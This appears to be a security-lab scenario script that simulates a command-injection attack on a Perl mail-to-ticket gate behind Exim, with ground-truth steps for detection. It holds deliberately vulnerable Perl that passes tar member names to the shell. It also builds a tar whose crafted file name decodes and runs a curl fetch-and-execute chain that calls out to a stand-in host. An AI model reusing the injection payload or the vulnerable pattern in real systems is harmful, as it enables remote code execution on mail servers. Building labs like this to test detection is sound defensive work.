# A mail gate of the house's own trusts the names inside of an archive: what a name says is run at delivery (as with the appliances of 2023).
. "$lab/lib/exim.sh"
title="The name of a file inside of a mailed tar is run by the mail gate's Perl at delivery"
what="support@ is an alias that pipes into a Perl gate, on a host whose mail server is Exim. The gate lists a tar attachment with a shell command built of the member's name. One member is named so that the shell decodes and runs a line: it fetches a program to /var/tmp, which connects to 203.0.113.67 port 8443. Nobody opened anything."
host=mx1.example.org user=mail daemons="cron sshd"
aliases='postmaster: root\nroot: ops\nsales: buyer\ninfo: clerk, buyer\nsupport: "|/usr/local/lib/ticketgate/ingest"\nabuse: root\n'
setup() {
  exim_host '/var/log/exim4/%slog' || return 1
  mkdir -p "$base/out/bin" "$base/out/t"
  cat > "$base/out/bin/ingest" <<'P'
#!/usr/bin/perl
# Takes a mail of support@: parts to the ticket's folder, archives listed for the index.
use strict; use warnings; use File::Path qw(make_path);
my $dir = "/var/spool/tickets/" . time . "-$$"; make_path($dir); chdir $dir or die;
open my $raw, '>', 'message.eml' or die; print $raw $_ while <STDIN>; close $raw;
system('munpack -q message.eml >munpack.out 2>&1');
for my $file (glob '*.tar') {
  my @members = split /\n/, qx{tar -tf $file};
  for my $member (@members) { my $kind = qx{tar -xOf $file '$member' | file -b -}; open my $i, '>>', 'index'; print $i "$member: $kind"; close $i; }
}
exit 0;
P
  install_file "$base/out/bin/ingest" /usr/local/lib/ticketgate/ingest
  install -d -m 755 -o mail -g mail /var/spool/tickets
  cc -O1 -o "$base/out/www/upd" "$lab/lib/stand-ins/beacon.c"
  python3 - "$base/out/t/logs.tar" <<'P'
import base64, io, sys, tarfile
line = base64.b64encode(b"curl -s -o /var/tmp/.sess http://203.0.113.66/upd;chmod 755 /var/tmp/.sess;/var/tmp/.sess 203.0.113.67 8443").decode()
assert '/' not in line
with tarfile.open(sys.argv[1], 'w') as t:
    for name in ('console.txt', f"'`echo {line}|base64 -d|sh`'.txt", 'version.txt'):
        data = b'line\n' * 20; i = tarfile.TarInfo(name); i.size = len(data); t.addfile(i, io.BytesIO(data))
P
  echo 'ok' > "$base/out/t/screen.txt"
}
act() {
  small_talk 2
  mail_in --from host12@example.com --to support@example.org --source 203.0.113.31 --helo host31.example.net --subject "Crash after update" --text "Please see the screen text.\n" --attach "$base/out/t/screen.txt:text/plain"
  sleep 2
  mail_in --from j.brandt@example.net --to support@example.org --source 203.0.113.77 --helo host77.example.net --subject "logs as requested" --text "Hello support,\n\nthe logs are attached.\n" --attach "$base/out/t/logs.tar:application/x-tar"
  wait_for 30 grep -q 'support.*address_pipe' /var/log/exim4/mainlog; sleep 4
  small_talk 2
  keep /var/log/exim4/mainlog
}
truth() {
  exec_step gate 'perl.*ticketgate/ingest' 'Exim pipes the mail into the gate'
  exec_step unpack 'munpack -q message.eml' 'the gate unpacks the parts'
  exec_step injected 'base64 -d' 'the name of a member is run by the shell'
  exec_step fetch 'curl -s -o /var/tmp/.sess' 'which fetches a program'
  exec_step execute '/var/tmp/.sess' 'and starts it'
  net_step beacon '.sess 203.0.113.67:8443' 'it calls out'
}
